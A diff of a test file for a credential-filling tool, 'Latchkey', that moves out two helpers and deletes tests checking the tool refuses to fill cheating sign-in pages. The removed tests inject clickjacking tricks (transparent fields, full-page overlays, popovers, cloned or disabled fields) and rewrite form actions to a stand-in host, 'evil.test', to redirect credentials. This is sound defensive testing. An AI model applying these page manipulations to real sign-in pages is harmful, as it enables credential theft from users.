@@ -1,17 +1,7 @@
 // Where Latchkey must do nothing, however the page asks: look-alikes, frames, other sign-ins, pages on which there is
 // nothing to fill, pages that cheat. In all of them: no field is written, no secret leaves the host.
 import { dormant, expect, nothingHappened, picture, portal, signInPage, test, until, written } from './fixtures.mjs';
-
-// What stands in the boxes that a person can see or not see, on any page; hidden inputs of the form do not count.
-const values = (frame) => frame.evaluate(() => [...document.querySelectorAll('input')]
-  .filter(({ type }) => !['hidden', 'submit', 'button', 'checkbox'].includes(type))
-  .map(({ value }) => value).filter(Boolean));
-
-// How often a secret left the host, according to the audit log.
-async function secrets(machine) {
-  const entries = JSON.parse(await machine.latchkey(['audit', '--json']));
-  return entries.map(({ event }) => event).filter((event) => /^credential_/.test(event));
-}
+import { secrets, values } from './observations.mjs';
 
 async function deliver(browser, page) {
   const popup = await browser.popup(page);
@@ -225,109 +215,4 @@ test.describe('pages that cheat', () => {
     expect(await browser.popupTarget()).toBeUndefined();
     await nothingHappened(entra, machine);
   });
-
-  // A page on the right host that hides, covers or moves its field. The host is Microsoft's, so this is the second line.
-  const cheats = {
-    'a see-through field': (field) => { document.querySelector(field).style.opacity = '0.1'; },
-    'a see-through form': () => { document.querySelector('form').style.opacity = '0.3'; },
-    'a see-through page': () => { document.body.style.opacity = '0.2'; },
-    'see-through in three places': (field) => {
-      const box = document.querySelector(field);
-      for (const node of [box, box.parentElement, document.body]) node.style.opacity = '0.85';
-    },
-    'an overlay': () => {
-      const cover = document.createElement('div');
-      cover.style.cssText = 'position:fixed;inset:0;z-index:99999;background:#fff';
-      document.body.append(cover);
-    },
-    'a popover': () => {
-      const cover = document.createElement('div');
-      cover.popover = 'manual';
-      cover.style.cssText = 'width:100vw;height:100vh;border:0;padding:0;margin:0';
-      document.body.append(cover);
-      cover.showPopover();
-    },
-    'a cover over the middle': (field) => {
-      const { left, top, width, height } = document.querySelector(field).getBoundingClientRect();
-      const cover = document.createElement('div');
-      cover.style.cssText = `position:fixed;z-index:99999;background:#fff;left:${left + width / 2 - 5}px;top:${top}px;width:10px;height:${height}px`;
-      document.body.append(cover);
-    },
-    'a second field': (field) => { document.querySelector('form').append(document.querySelector(field).cloneNode()); },
-    'a form that posts elsewhere': () => { document.querySelector('form').setAttribute('action', 'https://evil.test/'); },
-    'a button that posts elsewhere': () => { document.querySelector('#idSIButton9').setAttribute('formaction', 'https://evil.test/'); },
-    'a button beside the form that posts elsewhere': () => {
-      const form = document.querySelector('form');
-      const button = document.createElement('button');
-      form.id ||= 'form';
-      button.setAttribute('form', form.id);
-      button.setAttribute('formaction', 'https://evil.test/');
-      document.body.append(button);
-    },
-    'a form that writes into its address': () => { document.querySelector('form').method = 'get'; },
-    'another box that hides what is typed': () => {
-      document.querySelector('form').append(Object.assign(document.createElement('input'), { type: 'password', name: 'other' }));
-    },
-    'a read-only field': (field) => { document.querySelector(field).readOnly = true; },
-    'a disabled field': (field) => { document.querySelector(field).disabled = true; },
-    'a field out of sight': (field) => { document.querySelector(field).className += ' moveOffScreen'; },
-    'a field of no size': (field) => { document.querySelector(field).style.cssText = 'width:0;height:0;padding:0;border:0'; },
-  };
-  const fields = { username: '#i0116', 'access-pass': 'input[name=accesspass]' };
-
-  for (const [view, field] of Object.entries(fields)) {
-    test(`${view}: a field that is hidden, covered, doubled or led astray stays empty`, async ({ entra, machine, desktop: browser }) => {
-      test.setTimeout(300_000);
-      for (const [name, cheat] of Object.entries(cheats)) {
-        // A user name is no secret: beside another box it may stand.
-        if (view === 'username' && name === 'another box that hides what is typed') continue;
-        await test.step(name, async () => {
-          const page = await browser.page(`https://login.microsoftonline.com/contoso.onmicrosoft.com/gallery/${view}`);
-          await page.waitForSelector(field);
-          await page.evaluate(cheat, field);
-          const popup = await deliver(browser, page);
-          await popup.press('Enter');
-          await page.waitForTimeout(2500);
-          expect.soft(await values(page), name).toEqual([]);
-          expect.soft(page.url(), name).toContain('/gallery/');
-          await popup.close().catch(() => {});
-          await page.close();
-        });
-      }
-      expect((await entra.journal()).attempts).toEqual([]);
-      expect(await secrets(machine), 'secrets that left the host').toEqual([]);
-      await machine.latchkey(['end', '--all'], { code: null });
-    });
-
-    test(`${view}: a page that changes when it hears of the focus`, async ({ entra, machine, desktop: browser }) => {
-      const page = await browser.page(`https://login.microsoftonline.com/contoso.onmicrosoft.com/gallery/${view}`);
-      await page.waitForSelector(field);
-      await page.evaluate((field) => {
-        const box = document.querySelector(field);
-        box.addEventListener('focus', () => { box.form.action = 'https://evil.test/'; });
-      }, field);
-      const popup = await deliver(browser, page);
-      await popup.press('Enter');
-      await page.waitForTimeout(3000);
-      expect(await values(page)).toEqual([]);
-      expect((await entra.journal()).attempts).toEqual([]);
-      await machine.latchkey(['end', '--all'], { code: null });
-    });
-
-    test(`${view}: a field that is swapped again and again`, async ({ entra, machine, desktop: browser }) => {
-      const page = await browser.page(`https://login.microsoftonline.com/contoso.onmicrosoft.com/gallery/${view}`);
-      await page.evaluate((field) => {
-        setInterval(() => {
-          const box = document.querySelector(field);
-          box?.replaceWith(box.cloneNode());
-        }, 5);
-      }, field);
-      const popup = await deliver(browser, page);
-      await popup.press('Enter');
-      await page.waitForTimeout(4000);
-      expect((await entra.journal()).attempts.filter(({ fields }) => fields.length)).toEqual([]);
-      expect((await secrets(machine)).length).toBeLessThanOrEqual(1);
-      await machine.latchkey(['end', '--all'], { code: null });
-    });
-  }
 });
